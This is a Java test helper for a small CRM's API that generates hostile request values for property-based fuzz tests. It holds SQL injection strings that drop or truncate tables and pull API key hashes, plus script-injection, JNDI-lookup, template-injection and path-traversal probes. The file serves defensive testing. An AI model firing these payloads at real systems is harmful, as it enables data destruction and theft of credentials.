package com.minicrm.bootstrap.hostile;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import java.math.BigDecimal;
import java.math.BigInteger;
import java.util.List;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;

/** What a hostile client puts where a value belongs: wrong types, huge and odd strings, extreme numbers, SQL. */
final class HostileValues {
    static final List<String> SQL_INJECTIONS = List.of(
            "'; DROP TABLE customer; --",
            "\" OR \"1\"=\"1",
            "' OR 1=1 --",
            "1; SELECT SLEEP(10)",
            "') UNION SELECT key_hash, 1, 1 FROM api_key --",
            "\\'; TRUNCATE communication_log; #",
            "city` = 1 OR `1",
            "%' AND 1=0 UNION SELECT NULL --");
    private static final JsonNodeFactory JSON = JsonNodeFactory.instance;
    private static final Pattern DEEP = Pattern.compile("\"@@deep-(\\d+)@@\"");

    private HostileValues() {}

    /** Any hostile value; each run draws from it with a seeded source. */
    static Arbitrary<JsonNode> any() {
        return Arbitraries.oneOf(wrongTypes(), strings(), numbers(), Arbitraries.of(SQL_INJECTIONS).map(JSON::textNode), deep());
    }

    static Arbitrary<JsonNode> wrongTypes() {
        return Arbitraries.of(JSON.nullNode(), JSON.booleanNode(true), JSON.arrayNode(), JSON.objectNode(),
                JSON.arrayNode().add("a").add(1), JSON.objectNode().put("$gt", ""), JSON.numberNode(7), JSON.textNode(""));
    }

    static Arbitrary<JsonNode> strings() {
        Arbitrary<String> odd = Arbitraries.of("\u0000", "\uD800", "\uDFFF\uD800", "\u202Egnp.exe", "\uFEFF", "e\u0301\u0301\u0301",
                "😀👩‍👩‍👧‍👦", "𝕏𝕐ℤ", "\u200B\u200B", "\n\r\t", "<script>alert(1)</script>", "${jndi:ldap://x/a}", "{{7*7}}", "../../etc/passwd",
                "null", "NaN", "-0", "1e999", "2026-02-30T25:61:61Z", "0000-00-00T00:00:00Z", "   ");
        Arbitrary<String> huge = Arbitraries.of(1_000, 70_000, 100_000).map(n -> "x".repeat(n));
        Arbitrary<String> random = Arbitraries.strings().all().ofMinLength(0).ofMaxLength(300);
        return Arbitraries.oneOf(odd, huge, random).map(JSON::textNode);
    }

    static Arbitrary<JsonNode> numbers() {
        return Arbitraries.of(
                JSON.numberNode(new BigDecimal("1e400")), JSON.numberNode(new BigDecimal("-1e400")),
                JSON.numberNode(new BigInteger("99999999999999999999999999999")), JSON.numberNode(-1), JSON.numberNode(0),
                JSON.numberNode(Long.MIN_VALUE), JSON.numberNode(Long.MAX_VALUE), JSON.numberNode(Integer.MAX_VALUE + 1L),
                JSON.numberNode(new BigDecimal("0.0000000000000000000001")), JSON.numberNode(new BigDecimal("12.345678")),
                JSON.numberNode(-0.0), JSON.numberNode(1e308));
    }

    /**
     * Nested arrays and objects, past any sensible depth. Jackson will not even write such a tree,
     * so it stands in as a placeholder string that {@link #render} expands in the finished text.
     */
    static Arbitrary<JsonNode> deep() {
        return Arbitraries.of(50, 600, 3000).map(depth -> JSON.textNode("@@deep-" + depth + "@@"));
    }

    /**
     * Writes every surrogate as a JSON escape. Jackson writes them raw, and encoding a lone one as
     * UTF-8 turns it into '?': the server would never see what the test means to send.
     */
    static String escapeSurrogates(String json) {
        StringBuilder text = new StringBuilder(json.length());
        for (int i = 0; i < json.length(); i++) {
            char c = json.charAt(i);
            text.append(Character.isSurrogate(c) ? String.format("\\u%04x", (int) c) : String.valueOf(c));
        }
        return text.toString();
    }

    /** The body text with every deep placeholder expanded and every surrogate escaped. */
    static String render(String json) {
        Matcher placeholder = DEEP.matcher(json);
        StringBuilder text = new StringBuilder();
        while (placeholder.find()) {
            int depth = Integer.parseInt(placeholder.group(1));
            StringBuilder nested = new StringBuilder();
            for (int i = 0; i < depth; i++) {
                nested.append(i % 2 == 0 ? "[" : "{\"k\":");
            }
            nested.append("\"bottom\"");
            for (int i = depth - 1; i >= 0; i--) {
                nested.append(i % 2 == 0 ? "]" : "}");
            }
            placeholder.appendReplacement(text, Matcher.quoteReplacement(nested.toString()));
        }
        return escapeSurrogates(placeholder.appendTail(text).toString());
    }
}
